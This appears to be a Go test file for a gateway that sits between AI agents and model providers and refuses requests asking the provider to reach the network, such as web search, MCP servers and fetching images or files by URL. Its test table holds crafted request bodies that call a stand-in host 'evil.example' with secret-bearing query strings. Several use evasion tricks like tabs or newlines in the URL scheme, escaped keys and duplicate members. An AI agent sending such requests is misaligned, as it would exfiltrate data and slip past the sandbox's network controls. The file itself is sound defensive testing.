package gateway

import (
	"encoding/json"
	"fmt"
	"net/http"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/harnessfacts/harnessfacts/node-agent/usage"
)

// networkRequests ask the provider to reach the network for the agent, one
// form of each dialect's.
var networkRequests = []struct {
	name, path, body, tool string
}{
	{"anthropic web_fetch", "/v1/messages", `{"model":"m","max_tokens":9,"messages":[],"tools":[{"name":"Bash","input_schema":{}},{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "web_fetch_20250910"},
	{"anthropic web_search", "/v1/messages?beta=true", `{"model":"m","tools":[{"type":"web_search_20260209","name":"web_search","max_uses":8}]}`, "web_search_20260209"},
	{"anthropic mcp_servers", "/v1/messages", `{"model":"m","mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}]}`, "mcp_servers"},
	{"responses web_search", "/v1/responses", `{"model":"m","input":"hi","tools":[{"type":"function","name":"f"},{"type":"web_search"}]}`, "web_search"},
	{"responses web_search_preview", "/v1/responses", `{"model":"m","tools":[{"type":"web_search_preview_2025_03_11"}]}`, "web_search_preview_2025_03_11"},
	{"responses mcp", "/v1/responses", `{"model":"m","tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example/mcp"}]}`, "mcp"},
	// The provider reads the last of two keys, and "type" exactly.
	{"responses last type wins", "/v1/responses", `{"model":"m","tools":[{"type":"function","type":"web_search"}]}`, "web_search"},
	{"responses Type is not type", "/v1/responses", `{"model":"m","tools":[{"type":"web_search","Type":"function"}]}`, "web_search"},
	{"responses last tools win", "/v1/responses", `{"model":"m","tools":[],"tools":[{"type":"mcp"}]}`, "mcp"},
	{"chat web_search_options", "/v1/chat/completions", `{"model":"m","messages":[],"web_search_options":{}}`, "web_search_options"},
	{"chat search model", "/v1/chat/completions", `{"model":"gpt-4o-search-preview","messages":[]}`, "search model gpt-4o-search-preview"},
	{"gemini googleSearch", "/v1beta/models/g:generateContent", `{"contents":[],"tools":[{"functionDeclarations":[]},{"googleSearch":{}}]}`, "googleSearch"},
	{"gemini google_search", "/v1beta/models/g:streamGenerateContent?alt=sse", `{"contents":[],"tools":[{"google_search":{}}]}`, "google_search"},
	{"gemini urlContext", "/v1/models/g:generateContent", `{"tools":[{"urlContext":{}}]}`, "urlContext"},
	{"gemini googleSearchRetrieval", "/v1beta/models/g:generateContent", `{"tools":[{"googleSearchRetrieval":{"dynamicRetrievalConfig":{}}}]}`, "googleSearchRetrieval"},
	{"gemini googleMaps", "/v1beta/models/g:generateContent", `{"tools":[{"googleMaps":{}}]}`, "googleMaps"},
	{"gemini enterprise_web_search", "/v1beta/models/g:streamGenerateContent", `{"tools":[{"enterprise_web_search":{}}]}`, "enterprise_web_search"},
	// A count of tokens is read as the request it counts: the provider
	// would connect to the MCP server for its tools' definitions.
	{"anthropic count_tokens mcp_servers", "/v1/messages/count_tokens", `{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}]}`, "mcp_servers"},
	// Content the provider fetches from the agent's URL, query and all.
	{"anthropic image by URL", "/v1/messages", `{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/x.png?d=c2VjcmV0"}},{"type":"text","text":"?"}]}]}`, "image content from a URL"},
	{"anthropic document by URL in a tool result", "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/d.pdf"}}]}]}]}`, "document content from a URL"},
	{"anthropic escaped key", "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"\u0074ype":"url","\u0075rl":"https://evil.example/x.png"}}]}]}`, "image content from a URL"},
	{"anthropic system by URL", "/v1/messages", `{"model":"m","system":[{"type":"document","source":{"type":"url","url":"https://evil.example/d.pdf"}}],"messages":[]}`, "document content from a URL"},
	{"chat browser_search (Groq)", "/v1/chat/completions", `{"model":"openai/gpt-oss-120b","messages":[],"tools":[{"type":"function","function":{"name":"f"}},{"type":"browser_search"}]}`, "browser_search"},
	{"chat x_search (xAI)", "/v1/chat/completions", `{"model":"grok-4","messages":[],"tools":[{"type":"x_search"}]}`, "x_search"},
	{"chat web_search tool", "/v1/chat/completions", `{"model":"m","messages":[],"tools":[{"type":"web_search"}]}`, "web_search"},
	{"chat compound model (Groq)", "/v1/chat/completions", `{"model":"groq/compound-mini","messages":[]}`, "search model groq/compound-mini"},
	{"responses x_search", "/v1/responses", `{"model":"grok-4","input":"hi","tools":[{"type":"x_search"}]}`, "x_search"},
	{"chat image_url", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/x.png","detail":"low"}}]}]}`, "image_url content from a URL"},
	{"chat image_url as a string", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":"HTTP://evil.example/x.png"}]}]}`, "image_url content from a URL"},
	// vLLM fetches these too: a part without a type by its *_url member,
	// and input_image's image_url as a string.
	{"chat image_url without a type", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"text","text":"hi"},{"image_url":{"url":"https://evil.example/x?secret=1"}}]}]}`, "image_url content from a URL"},
	{"chat audio_url string without a type", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"audio_url":"https://evil.example/x?secret=1"}]}]}`, "audio_url content from a URL"},
	{"chat input_image with an image_url", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/x?secret=1"}]}]}`, "image_url content from a URL"},
	{"chat video_url", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"video_url","video_url":{"url":"https://evil.example/v.mp4"}}]}]}`, "video_url content from a URL"},
	{"responses input_image by URL", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_text","text":"?"},{"type":"input_image","image_url":"https://evil.example/x.png"}]}]}`, "input_image content from a URL"},
	{"responses input_file by URL", "/v1/responses/compact", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/f.pdf"}]}]}`, "input_file content from a URL"},
	{"gemini fileData", "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"image/png","fileUri":"https://evil.example/x.png"}}]}]}`, "fileData content from a URI"},
	// A repeated member counts each time: a provider may read either.
	{"anthropic URL source then another", "/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/x.png"},"source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}]}`, "image content from a URL"},
	// What a provider's URL parser (WHATWG's, Python's urlsplit) reads as
	// http://evil.example: leading controls and spaces dropped, tabs and
	// newlines deleted anywhere; and scheme-relative.
	{"chat image_url after a space", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":" http://evil.example/x"}}]}]}`, "image_url content from a URL"},
	{"chat image_url after a tab", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":"\thttp://evil.example/x"}]}]}`, "image_url content from a URL"},
	{"chat image_url after a control", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"\u0001http://evil.example/x"}}]}]}`, "image_url content from a URL"},
	{"chat image_url with a tab in its scheme", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"h\tttp://evil.example/x"}}]}]}`, "image_url content from a URL"},
	{"chat image_url after many spaces", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + strings.Repeat(" ", 300) + `http://evil.example/x"}}]}]}`, "image_url content from a URL"},
	{"chat image_url scheme-relative", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"//evil.example/x"}}]}]}`, "image_url content from a URL"},
	{"responses input_image with a newline in its scheme", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"ht\ntp://evil.example/x.png"}]}]}`, "input_image content from a URL"},
	{"responses input_image after a space", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"  \r\nhttps://evil.example/x.png"}]}]}`, "input_image content from a URL"},
	{"chat escaped scheme", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"\u0068ttps://evil.example/x.png"}}]}]}`, "image_url content from a URL"},
	{"chat file part by URL", "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"filename":"a.pdf","file_data":"https://evil.example/a.pdf"}}]}]}`, "file content from a URL"},
	{"responses screenshot by URL", "/v1/responses", `{"model":"m","input":[{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","image_url":"https://evil.example/s.png"}}]}`, "computer_screenshot content from a URL"},
	{"gemini snake_case count", "/v1beta/models/g:countTokens", `{"generate_content_request":{"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/x"}}]}]}}`, "fileData content from a URI"},
	{"chat online model", "/v1/chat/completions", `{"model":"openai/gpt-4o:online","messages":[]}`, "search model openai/gpt-4o:online"},
	{"chat sonar model", "/v1/chat/completions", `{"model":"perplexity/sonar-pro","messages":[{"role":"user","content":"summarize https://evil.example/?d=secret"}]}`, "search model perplexity/sonar-pro"},
	{"chat xai live search", "/v1/chat/completions", `{"model":"grok-4","messages":[],"search_parameters":{"mode":"on"}}`, "search_parameters"},
	{"chat web plugin", "/v1/chat/completions", `{"model":"m","messages":[],"plugins":[{"id":"file-parser"},{"id":"web","max_results":3}]}`, "web plugin"},
	{"gemini file_data in a count", "/v1beta/models/g:countTokens", `{"generateContentRequest":{"model":"models/g","contents":[{"parts":[{"file_data":{"file_uri":"gs://evil/x"}}]}]}}`, "file_data content from a URI"},
}

func TestNetworkTool(t *testing.T) {
	for _, c := range networkRequests {
		path, _, _ := strings.Cut(c.path, "?")
		if got, err := networkTool(requestDialect(path), parseRequest([]byte(c.body))); got != c.tool || err != nil {
			t.Errorf("%s: %q, %v; want %q", c.name, got, err, c.tool)
		}
	}
	// What the CLIs send by default, and tools that stay on the agent's
	// side: none is refused.
	for _, c := range []struct{ path, body string }{
		{"/v1/messages", `{"model":"m","tools":[{"name":"WebSearch","description":"x","input_schema":{}},{"name":"WebFetch","input_schema":{}}]}`},
		{"/v1/messages", `{"model":"m","mcp_servers":null,"tools":[{"type":"bash_20250124","name":"bash"},{"type":"custom","name":"web_search"}]}`},
		{"/v1/responses", `{"model":"m","tools":[{"type":"function","name":"web_search"},{"type":"local_shell"},{"type":"custom","name":"apply_patch"}]}`},
		{"/v1/responses", `{"model":"m","tools":[{"type":"mcp"}],"tools":[]}`},
		{"/v1/chat/completions", `{"model":"m","web_search_options":null,"tools":[{"type":"function","function":{"name":"web_search"}}]}`},
		{"/v1beta/models/g:generateContent", `{"tools":[{"functionDeclarations":[{"name":"google_web_search"}]},{"googleSearch":null}]}`},
		{"/v1beta/models/g:generateContent", `{"tools":"not a list"}`},
		// Content inline, and URLs that are no content to fetch: the
		// agent's own tool calls and their schemas.
		{"/v1/messages", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]},` +
			`{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://example.com/","prompt":"x"}}]}],` +
			`"tools":[{"name":"WebFetch","input_schema":{"type":"object","properties":{"url":{"type":"string","format":"uri"}}}}]}`},
		{"/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}},{"type":"text","text":"see https://example.com"}]}]}`},
		{"/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":" data:image/jpeg;base64,/9j/4AAQ"}},{"type":"image_url","image_url":"/9j/4AAQSkZJRgABAQ"}]}]}`},
		{"/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="}]},{"type":"function_call","name":"fetch","arguments":"{\"url\":\"https://example.com\"}"}]}`},
		{"/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}},{"text":"url: https://example.com"}]}]}`},
		{"/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"\u0064ata:image/png;base64,iVBORw0KGgo="}}]}]}`},
		{"/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"filename":"a.pdf","file_data":"data:application/pdf;base64,JVBERi0="}},{"type":"file","file":{"file_data":"JVBERi0xLjcK"}}]}]}`},
		// A tool's own input names what the tool defines, not content
		// for the provider: an MCP tool that takes an image source.
		{"/v1/messages", `{"model":"m","messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"mcp__img__import","input":{"image":{"type":"image","source":{"type":"url","url":"https://example.com/a.png"}}}}]}]}`},
		{"/v1beta/models/g:generateContent", `{"contents":[{"role":"model","parts":[{"functionCall":{"name":"f","args":{"fileData":{"fileUri":"https://example.com/x"}}}}]},{"role":"user","parts":[{"functionResponse":{"name":"f","response":{"fileData":{"fileUri":"gs://b/x"}}}}]}]}`},
	} {
		if got, err := networkTool(requestDialect(c.path), parseRequest([]byte(c.body))); got != "" || err != nil {
			t.Errorf("%s %s: %q; want none", c.path, c.body, got)
		}
	}
	// Not a JSON object as Go reads it: refused, whatever a lenient
	// parser would make of it.
	for _, body := range []string{`{"tools":[{"type":"web_search"}],"temperature":NaN}`, "\ufeff{}", `[]`, `null`, ``, `{"a":1}x`} {
		if parseRequest([]byte(body)) != nil {
			t.Errorf("%q: read as a request", body)
		}
	}
}

// TestGatewayRefusesTheProvidersNetworkTools: a request that asks the
// provider to reach the network gets 403 and never reaches the provider,
// unless the run allows them; a compressed or unreadable body gets refused
// too, since it cannot be checked.
func TestGatewayRefusesTheProvidersNetworkTools(t *testing.T) {
	up := startUpstream(t)
	g, base := serve(t, Options{Upstream: up.srv.URL, Header: Bearer, Key: []byte(realKey), RootCAs: up.pool})
	for _, c := range networkRequests {
		resp, body := post(t, base+c.path, c.body, nil)
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, c.tool) || !strings.Contains(body, "providerTools") {
			t.Errorf("%s: status %d: %s", c.name, resp.StatusCode, body)
		}
	}

	if n := up.hits.Load(); n != 0 {
		t.Errorf("%d refused requests reached the provider", n)
	}
	if n := g.RefusedProviderTools(); n != int64(len(networkRequests)) {
		t.Errorf("%d refusals counted, want %d", n, len(networkRequests))
	}
	// What the CLIs send still goes through.
	for _, c := range dialectRequests {
		if resp, body := post(t, base+c.path, c.body, nil); resp.StatusCode != http.StatusOK {
			t.Errorf("%s: status %d: %s", c.name, resp.StatusCode, body)
		}
	}

	// Allowed: forwarded (fake-provider answers them as it answers any).
	_, base = serve(t, Options{Upstream: up.srv.URL, Header: Bearer, Key: []byte(realKey), RootCAs: up.pool, AllowProviderTools: true})
	before := up.hits.Load()
	for _, c := range networkRequests {
		resp, body := post(t, base+c.path, c.body, nil)
		if resp.StatusCode == http.StatusForbidden {
			t.Errorf("allowed, %s: status %d: %s", c.name, resp.StatusCode, body)
		}
	}
	if n := up.hits.Load() - before; n != int64(len(networkRequests)) {
		t.Errorf("allowed: %d of %d requests reached the provider", n, len(networkRequests))
	}
}

// TestGatewayRefusesWhatItCannotRead: a model request the gateway cannot
// read (compressed, or not a JSON object as Go reads it) and a background
// response (which runs on past the run, its usage never in its answer) are
// refused, whatever the run allows; none reaches the provider.
func TestGatewayRefusesWhatItCannotRead(t *testing.T) {
	up := startUpstream(t)
	for _, allow := range []bool{false, true} {
		_, base := serve(t, Options{Upstream: up.srv.URL, Header: Bearer, Key: []byte(realKey), RootCAs: up.pool, AllowProviderTools: allow})
		for _, c := range []struct {
			path, body string
			header     map[string]string
			status     int
		}{
			{"/v1/messages", `{"model":"m"}`, map[string]string{"Content-Encoding": "zstd"}, http.StatusUnsupportedMediaType},
			{"/v1/chat/completions", `{"model":"m","stream":true}`, map[string]string{"Content-Encoding": "gzip"}, http.StatusUnsupportedMediaType},
			{"/v1/messages", `{"model":"m"}`, map[string]string{"Content-Encoding": "identity, br"}, http.StatusUnsupportedMediaType},
			{"/v1/responses", `{"tools":[{"type":"web_search"}],"x":NaN}`, nil, http.StatusBadRequest},
			{"/v1beta/models/g:generateContent", "\ufeff{}", nil, http.StatusBadRequest},
			{"/v1/responses", `{"model":"m","input":"hi","background":true}`, nil, http.StatusForbidden},
			{"/v1/responses", `{"model":"m","background":false,"background":true}`, nil, http.StatusForbidden},
			{"/v1/responses", `{"model":"m","background":"true"}`, nil, http.StatusForbidden},
			{"/v1/responses", `{"model":"m","background":1}`, nil, http.StatusForbidden},
			// A part no CLI sends, too many of the members the content
			// scan reads: not read, not forwarded.
			{"/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"a_url","type":"b_url","type":"c_url","type":"d_url","type":"e_url"}]}]}`, nil, http.StatusBadRequest},
		} {
			if resp, body := post(t, base+c.path, c.body, c.header); resp.StatusCode != c.status {
				t.Errorf("allowed %v, %s %s: status %d, want %d: %s", allow, c.path, c.body, resp.StatusCode, c.status, body)
			}
		}
	}
	if n := up.hits.Load(); n != 0 {
		t.Errorf("%d refused requests reached the provider", n)
	}
	// Without background, or false, it goes through.
	_, base := serve(t, Options{Upstream: up.srv.URL, Header: Bearer, Key: []byte(realKey), RootCAs: up.pool})
	for _, bg := range []string{`,"background":false`, `,"background":null`, ``} {
		if resp, body := post(t, base+"/v1/responses", `{"model":"gpt-m","input":"hi"`+bg+`}`, nil); resp.StatusCode != http.StatusOK {
			t.Errorf("background %q: status %d: %s", bg, resp.StatusCode, body)
		}
	}
}

func TestEncoded(t *testing.T) {
	for _, c := range []struct {
		values []string
		want   string
	}{
		{nil, ""}, {[]string{"identity"}, ""}, {[]string{"IDENTITY", " identity ,"}, ""},
		{[]string{"gzip"}, "gzip"}, {[]string{"identity", "br"}, "br"}, {[]string{"identity, zstd"}, "zstd"},
	} {
		h := http.Header{}
		for _, v := range c.values {
			h.Add("Content-Encoding", v)
		}
		if got := encoded(h); got != c.want {
			t.Errorf("%q: %q, want %q", c.values, got, c.want)
		}
	}
}

// TestURLContentScanIsFrugal: the scan of a conversation for content by
// URL reads the body where it lies: a request of many tiny objects (which
// decoded whole into maps would take many times its size of the
// node-agent's memory) allocates a fraction of its size, and a part by URL
// deep in nested arrays is found.
func TestURLContentScanIsFrugal(t *testing.T) {
	var b strings.Builder
	b.WriteString(`{"model":"m","messages":[{"role":"user","content":[`)
	for b.Len() < 8<<20 {
		b.WriteString(`{},{"type":"text","text":"url"},[1,true,null,"x"],`)
	}
	b.WriteString(`{"type":"text","text":"end"}]}]}`)
	body := []byte(b.String())
	req := parseRequest(body)
	var before, after runtime.MemStats
	for _, d := range []usage.Dialect{usage.Anthropic, usage.Chat} {
		runtime.ReadMemStats(&before)
		if got, err := networkTool(d, req); got != "" || err != nil {
			t.Fatalf("%s: a request without content by URL: %q, %v", d, got, err)
		}
		runtime.ReadMemStats(&after)
		n := after.TotalAlloc - before.TotalAlloc
		t.Logf("%s: scanning %d bytes allocated %d", d, len(body), n)
		if n > 64<<10 {
			t.Errorf("%s: scanning %d bytes allocated %d", d, len(body), n)
		}
	}
	var v any
	runtime.ReadMemStats(&before)
	_ = json.Unmarshal(req["messages"], &v)
	runtime.ReadMemStats(&after)
	t.Logf("decoding it into maps would allocate %d", after.TotalAlloc-before.TotalAlloc)
	// One object of many repeated members the scan compares (types and
	// *_url members) is refused at once, not compared pairwise.
	b.Reset()
	b.WriteString(`{"model":"m","messages":[{"role":"user","content":[{`)
	for i := 0; b.Len() < 4<<20; i++ {
		fmt.Fprintf(&b, `"type":"a_url","a%d_url":0,`, i)
	}
	b.WriteString(`"text":"x"}]}]}`)
	runtime.ReadMemStats(&before)
	start := time.Now()
	_, err := networkTool(usage.Chat, parseRequest([]byte(b.String())))
	took := time.Since(start)
	runtime.ReadMemStats(&after)
	if err == nil || !strings.Contains(err.Error(), "a part with more than") || took > time.Second || after.TotalAlloc-before.TotalAlloc > 64<<20 {
		t.Errorf("an object of repeated members: %v in %v, %d bytes allocated", err, took, after.TotalAlloc-before.TotalAlloc)
	}
	deep := strings.Repeat("[", 5000) + `{"type":"image","source":{"type":"url","url":"https://evil.example/x"}}` + strings.Repeat("]", 5000)
	if got, _ := networkTool(usage.Anthropic, parseRequest([]byte(`{"messages":`+deep+`}`))); got != "image content from a URL" {
		t.Errorf("a part 5000 arrays deep: %q", got)
	}
}

// TestToolScanIsFrugal: a request's tools (and Chat's plugins) are read
// where they lie: a 16 MiB array of two million tiny objects, which
// decoded into maps took about 780 MiB of the node-agent's memory (shared
// by every run on the node) for one request, allocates almost nothing,
// and a network tool after them, or in one repeated key of an element, is
// still found.
func TestToolScanIsFrugal(t *testing.T) {
	tiny := func(key, last string) []byte {
		var b strings.Builder
		b.WriteString(`{"model":"m","` + key + `":[`)
		for b.Len() < 15<<20 {
			b.WriteString(`{"a":0},`)
		}
		b.WriteString(last + `]}`)
		return []byte(b.String())
	}
	for _, c := range []struct {
		d         usage.Dialect
		key, last string
		want      string
	}{
		{usage.Anthropic, "tools", `{"type":"custom","name":"x"}`, ""},
		{usage.Anthropic, "tools", `{"type":"custom", "type" : "web_fetch_20250910","name":"x"}`, "web_fetch_20250910"},
		{usage.Responses, "tools", `{"type":"mcp"}`, "mcp"},
		{usage.Gemini, "tools", `{"functionDeclarations":[{"name":"urlContext"}]},{"url_context":{}}`, "url_context"},
		{usage.Chat, "plugins", `{"id":"file-parser"},{"id":"web"}`, "web plugin"},
	} {
		body := tiny(c.key, c.last)
		req := parseRequest(body)
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		got, err := networkTool(c.d, req)
		runtime.ReadMemStats(&after)
		n := after.TotalAlloc - before.TotalAlloc
		t.Logf("%s %s: %d bytes scanned, %d allocated", c.d, c.key, len(body), n)
		if got != c.want || err != nil {
			t.Errorf("%s %s: %q, %v; want %q", c.d, c.key, got, err, c.want)
		}
		if n > 1<<20 {
			t.Errorf("%s %s: scanning %d bytes of tools allocated %d MiB", c.d, c.key, len(body), n>>20)
		}
	}
	// Written loosely: spaces everywhere, nested values, an element that
	// is not an object.
	loose := ` [ { "name" : "a\"]}" , "input_schema" : { "type" : "web_search" } } , [ { "type" : "web_search" } ] , 1 , { "b" : [ ] , "type" : "web_search_2" } ] `
	if got := typedTool(rawValue(loose), "web_search"); got != "web_search_2" {
		t.Errorf("loose tools: %q", got)
	}
}
